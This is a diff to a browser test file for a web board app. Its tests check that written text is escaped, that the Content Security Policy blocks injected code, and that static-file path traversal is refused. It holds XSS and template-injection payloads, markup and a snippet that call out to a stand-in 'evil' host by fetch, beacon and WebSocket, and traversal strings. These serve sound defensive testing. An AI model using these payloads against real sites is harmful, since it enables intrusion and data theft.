@@ -1,9 +1,7 @@
 """Words that were written to run as a script are shown as words, wherever they stand; what is slipped in is blocked."""
 
-import json
 import re
-from collections.abc import Iterator
-from pathlib import Path
+from collections.abc import Callable, Iterator
 from typing import Any
 from urllib.parse import quote
 
@@ -12,7 +10,9 @@ from playwright.sync_api import Browser, Route, expect
 
 from tests.board.browser.conftest import Stage
 from tests.board.browser.elsewhere import Elsewhere
+from tests.board.browser.guarded import Guarded
 from tests.board.browser.stage import GUARD, Board, board, role
+from tests.board.browser.stories import choose
 from tests.chromium import Tab, open_tab
 
 pytestmark = [pytest.mark.system, pytest.mark.needs("chromium", "ssh_keygen"), pytest.mark.timeout(300)]
@@ -21,6 +21,8 @@ MARKUP = "<script>ran=1</script><img src=x onerror=ran=1><svg/onload=ran=1></tit
 BROKEN_OUT = "\"'><script>ran=1</script><a href=javascript:ran=1 onfocus=ran=1 autofocus>{{ 7 * 7 }}{% raw %}<!--\u202e"
 LINKED = "javascript:ran=1//[a](javascript:ran=1)![a](https://evil.invalid/x)<https://evil.invalid/y>`<i>`"
 WORDS = (MARKUP, BROKEN_OUT, LINKED)
+SHOWN = ("<script>ran=1</script>", "{{ 7 * 7 }}{% raw %}", "![a](https://evil.invalid/x)")
+"""A part of each of these words, as whoever reads a page reads it."""
 LIVE = """document.querySelectorAll(`main script, main img, main iframe, main object, main style, main base, main meta,
   [onerror], [onload], [onfocus], [autofocus], a[href^="javascript:" i], a[href*="evil"]`).length"""
 
@@ -63,7 +65,7 @@ def test_what_people_models_and_teams_write_is_shown_and_never_run(number: int, 
     run, asked = f"/board/runs/{waits}", f"/board/runs/{waits}/answer/{bad.question(waits)}"
     with open_tab(browser) as tab:
         for path in ("/board", "/board/inbox", "/board/teams", f"/board/teams/{team}", run, asked):
-            visit(tab, bad, path)
+            visit(tab, bad, path, SHOWN[number])
         tab.page.get_by_label("You are").select_option("cfo")
         tab.page.get_by_role("radio", name="No go").check()
         tab.page.get_by_label("Why", exact=True).fill(WORDS[number])
@@ -74,13 +76,13 @@ def test_what_people_models_and_teams_write_is_shown_and_never_run(number: int, 
     for path in (run, f"{run}/why", f"{run}/report", asked, "/board/watch"):
         # The report is in a sandbox of its own making, in which the tool waits for nothing.
         with open_tab(browser, scripts=not path.endswith("report")) as tab:
-            visit(tab, bad, path)
-            assert "ran=1" in tab.page.content(), f"{path} has the words"
+            visit(tab, bad, path, SHOWN[number])
 
 
-def visit(tab: Tab, at: Board, path: str) -> None:
+def visit(tab: Tab, at: Board, path: str, words: str) -> None:
     assert tab.open(at.at(path), 1280, 800) == 200, path
     harmless(tab, path)
+    assert words in (tab.page.locator("body").text_content() or ""), f"{path} has the words as they were written"
 
 
 def harmless(tab: Tab, path: str) -> None:
@@ -88,6 +90,12 @@ def harmless(tab: Tab, path: str) -> None:
     assert (tab.ask(LIVE), tab.said) == (0, []), path
     assert all(url.startswith(("http://127.0.0.1:", "http://localhost:")) for url in tab.asked), (path, tab.asked)
     assert "49" not in tab.page.title(), "a template in a text is not drawn"
+
+
+LOADED = """name => new Promise(done => { const added = document.createElement('script');
+  added.onload = () => done(true); added.onerror = () => done(false);
+  added.src = '/board/static/' + name; document.head.append(added); })"""
+"""Whether the page that is open takes a file of the board as its script."""
 
 
 @pytest.mark.parametrize("word", WORDS)
@@ -120,26 +128,64 @@ INJECTED = """<script>window.ran = 1</script><script src="{evil}/s.js"></script>
 <iframe src="{evil}/f"></iframe><object data="{evil}/o"></object><video src="{evil}/v"></video>
 <a id=a href="#" onclick="ran=1" style="position:fixed">a</a><base href="{evil}/">
 <form id=f action="{evil}/p" method=post><input name=x></form><svg><use href="{evil}/u#x"></use></svg>"""
+ASKED = "/board/runs/{waits}/answer/{question}"
+PAGES = (
+    *("/board", "/board/inbox", "/board/watch", "/board/teams", "/board/teams/launch", "/board/runs/{decided}"),
+    *("/board/runs/{decided}/why", "/board/runs/{waits}", "/board/runs/{waits}/why", ASKED, "/board/runs/0000"),
+)
 SENT = """async evil => { try { await fetch(evil + '/q'); } catch {} navigator.sendBeacon(evil + '/b');
   try { new WebSocket(evil.replace('http', 'ws') + '/w'); } catch {} document.getElementById('a').click();
   document.getElementById('f').submit(); await new Promise(done => setTimeout(done, 500)); }"""
 
 
-@pytest.mark.parametrize("path", ["/board", "/board/inbox", "/board/watch", "/board/teams", "/board/runs/{thread}"])
+@pytest.fixture(scope="module")
+def threads(stage: Stage) -> dict[str, str]:
+    """A thread that was decided, one that waits, and its question."""
+    decided, waits = stage.board.begun("payments"), stage.board.begun("launch")
+    return {"decided": decided, "waits": waits, "question": stage.board.question(waits)}
+
+
+@pytest.mark.parametrize("path", PAGES)
 def test_what_is_slipped_into_a_page_neither_runs_nor_calls_out(
-    path: str, stage: Stage, tab: Tab, place: Elsewhere
+    path: str, threads: dict[str, str], stage: Stage, tab: Tab, place: Elsewhere
 ) -> None:
     """As if an escape had been forgotten: the policy of the page is the second wall."""
-    url = stage.board.at(path.format(thread=stage.board.begun("payments")))
-    before = len(place.asked)
+    url, before = stage.board.at(path.format(**threads)), len(place.asked)
+    tab.page.route(url, slipping_in(place))
+    tab.open(url, 1280, 800)
+    held_back(tab, url, place, before)
 
+
+def test_what_is_slipped_into_the_page_to_sign_on_neither_runs_nor_calls_out(
+    threads: dict[str, str], stage: Stage, tab: Tab, place: Elsewhere
+) -> None:
+    url, before = stage.board.at(ASKED.format(**threads)), len(place.asked)
+    tab.open(url, 1280, 800)
+    tab.page.route(url, slipping_in(place))
+    choose(tab.page, "No go", "Refunds first.")
+    expect(tab.page.get_by_role("heading", name="Sign the answer")).to_be_attached()
+    tab.page.wait_for_load_state()
+    held_back(tab, url, place, before)
+
+
+def test_what_is_slipped_into_the_login_neither_runs_nor_calls_out(guard: Guarded, tab: Tab, place: Elsewhere) -> None:
+    url, before = guard.board.at("/board/login"), len(place.asked)
+    tab.page.route(url, slipping_in(place))
+    tab.open(url, 1280, 800)
+    held_back(tab, url, place, before)
+
+
+def slipping_in(place: Elsewhere) -> Callable[[Route], None]:
     def slip_in(route: Route) -> None:
         answer = route.fetch()
         body = answer.text().replace("</main>", INJECTED.format(evil=place.url) + "</main>")
         route.fulfill(response=answer, body=body)
 
-    tab.page.route(url, slip_in)
-    tab.open(url, 1280, 800)
+    return slip_in
+
+
+def held_back(tab: Tab, url: str, place: Elsewhere, before: int) -> None:
+    """What was slipped into the page that is open does all it can, and that is nothing."""
     tab.page.evaluate(SENT, place.url)
     assert tab.ask("window.ran === undefined")
     assert tab.page.get_by_role("heading", level=1).first.is_visible(), "a style of its own does not count"
@@ -148,8 +194,17 @@ def test_what_is_slipped_into_a_page_neither_runs_nor_calls_out(
     assert len([line for line in tab.said if "Content Security Policy" in line]) >= 8
 
 
-def test_the_board_serves_no_script_that_a_team_brings(stage: Stage, tab: Tab, tmp_path: Path) -> None:
-    for name in ("../board.js", "..%2fpages.py", "board.js%00", "x.js", ".", "board.css/../board.js"):
+def test_the_board_serves_no_script_that_a_team_brings(stage: Stage, tab: Tab) -> None:
+    (stage.board.home / "x.js").write_text("window.ran = 1")
+    absolute = quote(str(stage.board.home / "x.js"), safe="")
+    up = ["%2e%2e%2f" * steps + absolute.removeprefix("%2F") for steps in range(4, 16)]
+    tab.open(stage.board.at("/board"), 1280, 800)
+    assert tab.page.evaluate(LOADED, "board.js"), "its own script it does serve"
+    for name in ("../board.js", "..%2fpages.py", "board.js%00", "x.js", ".", absolute, *up):
+        assert not tab.page.evaluate(LOADED, name), name
         answer = tab.page.request.get(stage.board.at(f"/board/static/{name}"))
-        assert answer.status in (400, 404) or answer.url.endswith("/board/static/board.js"), name
-    assert json.dumps(tab.said) == "[]"
+        assert answer.status in (400, 404), name
+    assert tab.page.request.get(stage.board.at("/board/static/board.css/../board.js")).url.endswith("/static/board.js")
+    assert tab.ask("window.ran === undefined")
+    refused = re.compile(r"status of 40[04] \(|Refused to execute script .* its MIME type \('text/html'\)")
+    assert [line for line in tab.said if not refused.search(line)] == []
